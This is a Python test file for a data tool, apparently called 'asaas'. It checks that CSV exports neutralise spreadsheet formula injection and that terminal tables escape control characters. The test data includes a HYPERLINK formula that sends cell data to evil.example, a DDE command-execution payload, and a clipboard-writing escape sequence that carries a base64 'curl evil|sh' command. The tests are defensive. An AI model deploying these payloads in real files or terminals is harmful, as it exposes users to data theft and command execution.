"""CSV exports cannot carry formulas (issue 18, item 6): every CSV asaas writes goes through
``asaas.tables.format_table``, which prefixes a cell a spreadsheet would run (``=``, ``+``,
``-``, ``@``, tab, line break) with a single quote, numbers excepted; ``csv-raw`` writes cells
as stored."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from asaas.tables import Table, format_table
from tests.reviews_data import learnable_reviews
from tests.helpers import ok

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet treats as a formula, or may after skipping a tab or line break."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_neutralises_formulas_and_keeps_numbers():
    table = Table(["=bad()", "n", "x", "d"],
                  [(h, -1, -2.5, Decimal("-3.25")) for h in HOSTILE]
                  + [("-7", 0, 1e-9, None), ("plain", 5, float("nan"), Decimal("4"))])
    rows = _cells(format_table(table, "csv"))
    assert rows[0] == ["'=bad()", "n", "x", "d"]  # a query names its columns too
    for row, hostile in zip(rows[1:], HOSTILE):
        assert row[0] == "'" + hostile
        assert row[1:] == ["-1", "-2.5", "-3.25"]  # negative numbers stay numbers
    assert rows[-2][:2] == ["-7", "0"]  # text that is a plain number stays as it is
    assert rows[-1][0] == "plain"
    assert not any(_runs_as_formula(c) for row in rows for c in row)
    raw = _cells(format_table(table, "csv-raw"))
    assert [r[0] for r in raw[1:len(HOSTILE) + 1]] == HOSTILE and raw[0][0] == "=bad()"


def test_asaas_sql_csv_carries_no_formula(invoke, learnable_source):
    ok(invoke("ingest", "--source", str(learnable_source(20, 10))))
    query = ("SELECT '=HYPERLINK(\"http://evil.example\",\"x\")' AS \"=cmd()\", -1 AS n, "
             "'@SUM(A1)' AS at_sign, '-1+1' AS minus, '-12' AS num_text, text FROM reviews "
             "LIMIT 3")
    rows = _cells(ok(invoke("sql", query, "--format", "csv")))
    assert rows[0][0] == "'=cmd()"
    assert rows[1][:5] == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "-1", "'@SUM(A1)",
                           "'-1+1", "-12"]
    assert not any(_runs_as_formula(c) for row in rows for c in row)
    raw = _cells(ok(invoke("sql", query, "--format", "csv-raw")))
    assert raw[1][0].startswith("=HYPERLINK(") and raw[0][0] == "=cmd()"


@pytest.fixture
def hostile_corpus(tmp_path):
    """Learnable reviews whose every text starts with a formula: any disagreement row has one."""
    src = tmp_path / "hostile"
    src.mkdir()
    for split, n, seed in (("train", 160, 1), ("test", 120, 2)):
        rows = learnable_reviews(n, seed, split)
        # Test reviews carry a cue of each side, so that the two models disagree on some.
        other = learnable_reviews(n, 99, "x")  # labels alternate: i + 1 has the other one
        mixed = [f"{r[1]} {other[(i + 1) % n][1]}" if split == "test" else r[1]
                 for i, r in enumerate(rows)]
        texts = [f"{HOSTILE[i % len(HOSTILE)]} {t}" for i, t in enumerate(mixed)]
        pq.write_table(pa.table({"id": [r[0] for r in rows], "text": texts,
                                 "label": [r[2] for r in rows]}), src / f"{split}.parquet")
    return src


def test_disagreements_csv_carries_no_formula(invoke, hostile_corpus):
    ok(invoke("ingest", "--source", str(hostile_corpus)))
    for kind in ("tfidf-lr", "bow-rf"):
        ok(invoke("train", kind, "--limit", "160"))
        ok(invoke("score", "--model", kind, "--quiet"))
    out = ok(invoke("disagreements", "tfidf-lr", "bow-rf", "--format", "csv", "--limit", "1000"))
    rows = _cells(out.split("\n", 1)[1])  # after the summary line (stderr)
    header, body = rows[0], rows[1:]
    assert body, out  # the two models disagree somewhere
    text = header.index("snippet")
    assert all(r[text].startswith("'") for r in body)
    assert not any(_runs_as_formula(c) for row in body for c in row)
    raw = _cells(ok(invoke("disagreements", "tfidf-lr", "bow-rf", "--format", "csv-raw",
                           "--limit", "1000")).split("\n", 1)[1])
    assert any(_runs_as_formula(r[text]) for r in raw[1:])


def test_job_steps_take_both_csvs(tmp_path, invoke, hostile_corpus, db_path):
    """A job's report step writes its file with the same writer, and takes csv-raw too."""
    from asaas.jobs import EXIT_OK, run_job

    ok(invoke("ingest", "--source", str(hostile_corpus)))
    ok(invoke("train", "tfidf-lr", "--limit", "160"))
    job = tmp_path / "export.toml"
    job.write_text('name = "export"\n[[steps]]\nkind = "score"\nmodels = "all"\n'
                   '[[steps]]\nkind = "report"\npath = "r.csv"\nformat = "csv"\n'
                   '[[steps]]\nkind = "report"\npath = "raw.csv"\nformat = "csv-raw"\n')
    assert run_job(job, db_url=str(db_path), stream=io.StringIO()) == EXIT_OK
    assert _cells((tmp_path / "r.csv").read_text())[0][0] == "model"
    assert (tmp_path / "raw.csv").exists()


def test_a_carriage_return_cannot_start_a_row_of_its_own():
    """With "\\n" rows the csv module left a lone "\\r" unquoted: a spreadsheet ended the row
    there and read the rest of the cell, formula included, as the next row."""
    table = Table(["text"], [("fine\r=HYPERLINK(\"http://evil.example\")",), ("a\nb",)])
    for fmt in ("csv", "csv-raw"):
        out = format_table(table, fmt)
        assert out.replace('"fine\r=', "").count("\r") == 0  # every \r inside quotes
        assert _cells(out) == [["text"], ["fine\r=HYPERLINK(\"http://evil.example\")"],
                               ["a\nb"]]
        assert out.endswith('"') and "\r\n" not in out  # rows end in "\n" as before


def test_tables_printed_to_a_terminal_show_control_characters():
    """An ESC sequence in a review (OSC 52 writes the clipboard, CSI moves the cursor) or a
    bidirectional override would act on the terminal `asaas sql` prints to."""
    nasty = "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2A\u202edesrever\r"
    table = Table([f"col\x1b[31m", "n"], [(nasty, 1)])
    for fmt in ("table", "markdown"):
        out = format_table(table, fmt)
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
        assert "\r" not in out
        assert "\\x1b]52;c;" in out and "\\u202e" in out
